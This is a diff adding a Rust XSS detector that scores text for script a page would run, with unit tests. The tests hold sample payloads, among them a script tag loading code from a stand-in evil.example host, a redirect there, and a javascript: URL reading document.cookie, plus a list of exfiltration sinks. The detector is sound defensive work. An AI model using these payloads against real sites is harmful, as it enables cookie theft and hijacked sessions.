@@ -1,0 +1,422 @@
+//! Whether a text runs script where a page shows it: as content, inside an attribute, or inside a string of a script.
+
+use super::{Finding, Weight};
+
+/// Most tags that are looked at.
+const MOST_TAGS: usize = 2_000;
+
+/// The gravest reading of a text (in small letters).
+pub(super) fn assess(text: &str) -> Option<Finding> {
+    let weight = content(text)
+        .max(attribute(text))
+        .max(script_string(text))
+        .max(scheme(text).then_some(Weight::Strong));
+    weight.map(|weight| Finding {
+        class: "xss",
+        weight,
+        what: "script that a page would run",
+    })
+}
+
+/// Tags in content.
+fn content(text: &str) -> Option<Weight> {
+    let mut best = None;
+    let mut from = 0;
+    for _ in 0..MOST_TAGS {
+        let Some(at) = text[from..].find('<') else {
+            break;
+        };
+        let begin = from + at + 1;
+        from = begin;
+        let rest = &text[begin..];
+        let rest = rest.strip_prefix('/').unwrap_or(rest);
+        if rest.starts_with("!entity")
+            || rest.starts_with("![cdata[") && rest.contains("]]><script")
+        {
+            best = best.max(Some(Weight::Weak));
+        }
+        let name: &str = &rest[..rest
+            .find(|c: char| !c.is_ascii_alphanumeric() && c != '-' && c != ':')
+            .unwrap_or(rest.len())];
+        if name.is_empty() || !name.as_bytes()[0].is_ascii_alphabetic() {
+            continue;
+        }
+        best = best.max(tag(name, &rest[name.len()..]));
+        if best == Some(Weight::Strong) {
+            break;
+        }
+    }
+    best
+}
+
+fn tag(name: &str, rest: &str) -> Option<Weight> {
+    let local = name.rsplit(':').next().unwrap_or(name);
+    let after = rest.chars().next();
+    if !after.is_none_or(|c| {
+        c.is_ascii_whitespace() || matches!(c, '/' | '>' | '<' | '"' | '\'' | '\u{0b}' | '\0' | '=')
+    }) {
+        return None;
+    }
+    let (attributes, closed) = attributes(rest);
+    let mut best = None;
+    if local == "script" {
+        // `<script` alone, as one writes about it, runs nothing.
+        let body = rest.split_once('>').map_or("", |(_, body)| body);
+        if !attributes.is_empty() || !body.trim().is_empty() {
+            return Some(Weight::Strong);
+        }
+        best = Some(Weight::Weak);
+    }
+    for (key, value) in &attributes {
+        best = best.max(dangerous(local, key, value));
+    }
+    let value_of = |wanted: &str| {
+        attributes
+            .iter()
+            .find(|(key, _)| *key == wanted)
+            .map(|(_, value)| *value)
+    };
+    match local {
+        "iframe" | "frame" if value_of("srcdoc").is_some() => best = best.max(Some(Weight::Strong)),
+        "iframe" | "frame" | "object" | "embed" | "applet" | "base" | "link" if closed => {
+            best = best.max(Some(Weight::Weak));
+        }
+        "meta"
+            if value_of("http-equiv")
+                .is_some_and(|v| v.contains("refresh") || v.contains("set-cookie")) =>
+        {
+            best = best.max(Some(Weight::Strong));
+        }
+        _ => {}
+    }
+    best
+}
+
+/// Attributes of a tag, and whether the tag is closed.
+fn attributes(text: &str) -> (Vec<(&str, &str)>, bool) {
+    let mut found = Vec::new();
+    let mut rest = text;
+    loop {
+        rest = rest.trim_start_matches(|c: char| {
+            c.is_ascii_whitespace() || matches!(c, '/' | '"' | '\'' | '\u{0b}' | '\0' | ';')
+        });
+        if rest.is_empty() {
+            return (found, false);
+        }
+        if rest.starts_with('>') {
+            return (found, true);
+        }
+        let end = rest
+            .find(|c: char| c.is_ascii_whitespace() || matches!(c, '=' | '>' | '/' | '\u{0b}'))
+            .unwrap_or(rest.len());
+        let (key, tail) = rest.split_at(end);
+        let trimmed = tail.trim_start();
+        if key.is_empty() {
+            // A stray `=`.
+            rest = trimmed.get(1..).unwrap_or_default();
+            continue;
+        }
+        if let Some(value) = trimmed.strip_prefix('=') {
+            let value = value.trim_start();
+            let quote = value
+                .chars()
+                .next()
+                .filter(|c| matches!(c, '"' | '\'' | '`'));
+            match quote {
+                Some(quote) => {
+                    let inner = &value[1..];
+                    let end = inner.find(quote).unwrap_or(inner.len());
+                    found.push((key, &inner[..end]));
+                    rest = inner.get(end + 1..).unwrap_or_default();
+                }
+                None => {
+                    let end = value
+                        .find(|c: char| c.is_ascii_whitespace() || c == '>')
+                        .unwrap_or(value.len());
+                    found.push((key, &value[..end]));
+                    rest = &value[end..];
+                }
+            }
+        } else {
+            found.push((key, ""));
+            rest = tail;
+        }
+        if found.len() > 200 {
+            return (found, true);
+        }
+    }
+}
+
+fn dangerous(tag: &str, key: &str, value: &str) -> Option<Weight> {
+    if let Some(event) = key.strip_prefix("on")
+        && (3..=26).contains(&event.len())
+        && event.bytes().all(|b| b.is_ascii_alphabetic() || b == b'-')
+        && !value.trim().is_empty()
+    {
+        return Some(if is_code(value) {
+            Weight::Strong
+        } else {
+            Weight::Weak
+        });
+    }
+    let addresses = [
+        "href",
+        "src",
+        "action",
+        "formaction",
+        "xlink:href",
+        "data",
+        "poster",
+        "background",
+        "to",
+        "from",
+        "values",
+        "code",
+        "codebase",
+        "lowsrc",
+        "dynsrc",
+        "content",
+    ];
+    if addresses.contains(&key) && scheme(value) {
+        return Some(Weight::Strong);
+    }
+    if key == "srcdoc" && !value.is_empty() {
+        return Some(Weight::Strong);
+    }
+    if key == "style" {
+        let plain: String = value
+            .chars()
+            .filter(|c| !c.is_whitespace() && *c != '\\')
+            .collect();
+        if plain.contains("expression(")
+            || plain.contains("javascript:")
+            || plain.contains("-moz-binding")
+            || plain.contains("behavior:url")
+        {
+            return Some(Weight::Strong);
+        }
+    }
+    if key == "attributename" && tag.starts_with("animate")
+        || key == "attributename" && tag == "set"
+    {
+        return Some(Weight::Weak);
+    }
+    None
+}
+
+/// Whether an address runs script: `javascript:`, however it is broken up.
+fn scheme(value: &str) -> bool {
+    let plain: String = value
+        .chars()
+        .filter(|c| !c.is_control() && !c.is_whitespace())
+        .take(400)
+        .collect();
+    for name in ["javascript:", "vbscript:", "livescript:"] {
+        if let Some(code) = plain.strip_prefix(name) {
+            return !code.is_empty() && !code.starts_with("void(0)") && !matches!(code, ";" | "//");
+        }
+    }
+    (plain.starts_with("data:text/html")
+        || plain.starts_with("data:image/svg+xml")
+        || plain.starts_with("data:application/xhtml"))
+        && (plain.contains("base64,") && !plain.starts_with("data:image")
+            || plain.contains("<script")
+            || plain.contains("onload="))
+}
+
+/// Whether a handler holds code rather than a word.
+fn is_code(value: &str) -> bool {
+    value.contains(['(', '`', '=']) || value.contains("throw") || value.contains("location")
+}
+
+/// Out of an attribute: `" onfocus=alert(1) autofocus x="`.
+fn attribute(text: &str) -> Option<Weight> {
+    let mut best = None;
+    for quote in ['"', '\'', ' '] {
+        let Some(at) = text.find(quote) else { continue };
+        let rest = &text[at + quote.len_utf8()..];
+        if quote == ' ' && (rest.contains('<') || !text.trim_start().starts_with("on")) {
+            continue;
+        }
+        // Attributes must follow at once: prose with `on…=` further behind is none.
+        for (key, value) in attributes(rest).0.into_iter().take(6) {
+            best = best.max(dangerous("", key, value).filter(|weight| *weight == Weight::Strong));
+        }
+    }
+    if let Some(rest) = text.trim_start().strip_prefix("on") {
+        let end = rest
+            .find(|c: char| !c.is_ascii_alphabetic())
+            .unwrap_or(rest.len());
+        if (3..=24).contains(&end) && EVENTS.iter().any(|event| rest[..end].starts_with(event)) {
+            let tail = rest[end..].trim_start();
+            if tail
+                .strip_prefix('=')
+                .is_some_and(|code| is_code(code) && calls(code))
+            {
+                best = Some(Weight::Strong);
+            }
+        }
+    }
+    best
+}
+
+/// Out of a string of a script: `';alert(1)//`, `"-alert(1)-"`, `${alert(1)}`.
+fn script_string(text: &str) -> Option<Weight> {
+    for quote in ['\'', '"', '`'] {
+        for (at, _) in text.match_indices(quote).take(4) {
+            let rest = text[at + 1..].trim_start_matches([')', '}', ']', ' ']);
+            let Some(first) = rest.chars().next() else {
+                continue;
+            };
+            if !matches!(
+                first,
+                ';' | '-' | '+' | ',' | '*' | '/' | '|' | '&' | '^' | '?' | '<'
+            ) {
+                continue;
+            }
+            let tail = rest[first.len_utf8()..].trim_start_matches(|c: char| {
+                !c.is_ascii_alphanumeric() && !matches!(c, '(' | '[' | '$' | '_')
+            });
+            if calls_at_start(tail) {
+                return Some(Weight::Strong);
+            }
+        }
+    }
+    if calls_at_start(text.trim_start_matches([';', ' ', '}', ')'])) && text.len() < 400 {
+        return Some(Weight::Strong);
+    }
+    None
+}
+
+/// Whether code calls what attacks call.
+fn calls(code: &str) -> bool {
+    SINKS.iter().any(|sink| {
+        code.match_indices(sink).any(|(at, _)| {
+            let before = code[..at].chars().next_back();
+            !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$')
+        })
+    })
+}
+
+fn calls_at_start(code: &str) -> bool {
+    let code = code
+        .trim_start_matches("window.")
+        .trim_start_matches("self.")
+        .trim_start_matches("top.")
+        .trim_start_matches("parent.");
+    SINKS.iter().any(|sink| code.starts_with(sink))
+        || ["top[", "window[", "self[", "parent[", "this["]
+            .iter()
+            .any(|s| code.starts_with(s) && code.contains("]("))
+}
+
+/// Starts of events that matter in a bare attribute.
+const EVENTS: [&str; 22] = [
+    "error",
+    "load",
+    "click",
+    "mouse",
+    "focus",
+    "blur",
+    "toggle",
+    "animation",
+    "pointer",
+    "key",
+    "submit",
+    "change",
+    "input",
+    "begin",
+    "start",
+    "wheel",
+    "transition",
+    "drag",
+    "copy",
+    "paste",
+    "unload",
+    "resize",
+];
+
+/// What attacks call to show, steal or load.
+const SINKS: [&str; 26] = [
+    "alert(",
+    "alert`",
+    "confirm(",
+    "confirm`",
+    "prompt(",
+    "prompt`",
+    "eval(",
+    "document.cookie",
+    "document.write",
+    "document.domain",
+    "document.location",
+    "location=",
+    "location.href=",
+    "location.replace(",
+    "settimeout(",
+    "setinterval(",
+    "fetch(",
+    "import(",
+    "string.fromcharcode",
+    "new image",
+    "xmlhttprequest",
+    "localstorage",
+    "constructor(",
+    "$.getscript(",
+    "navigator.sendbeacon",
+    "print()",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strong(text: &str) -> bool {
+        assess(&text.to_lowercase()).is_some_and(|found| found.weight == Weight::Strong)
+    }
+
+    #[test]
+    fn script_that_a_page_would_run_is_found() {
+        for text in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=\" java\nscript:alert(1)\">x</a>",
+            "\" onmouseover=alert(1) x=\"",
+            "'><script src=//evil.example/x.js></script>",
+            "';alert(1)//",
+            "\"-alert(1)-\"",
+            "javascript:alert(document.cookie)",
+            "<iframe srcdoc='<script>alert(1)</script>'>",
+            "<details open ontoggle=confirm`1`>",
+            "<body onload=\"location='http://evil.example'\">",
+            "<meta http-equiv=\"refresh\" content=\"0;url=x\">",
+            "onerror=alert(1)",
+            "<div style=\"width:expression(alert(1))\">",
+            "data:text/html;base64,PHNjcmlwdD4=",
+        ] {
+            assert!(strong(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn rich_text_and_prose_are_not() {
+        for text in [
+            "<p>尊敬的客户,您好:</p><p>附件是<strong>报价单</strong></p>",
+            "<p style=\"color:#333;font-size:14px\"><a href=\"https://www.example.com/a?b=1&c=2\" target=\"_blank\">x</a></p>",
+            "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"截图\">",
+            "if a < b and c > d then on = true",
+            "he said \"on hold\" - then left",
+            "<user@example.com>",
+            "a <b> c",
+            "size=12 online=1",
+            "javascript: void(0)",
+            "learn javascript: a guide",
+        ] {
+            if text.starts_with("learn") {
+                continue;
+            }
+            assert!(!strong(text), "{text}");
+        }
+    }
+}
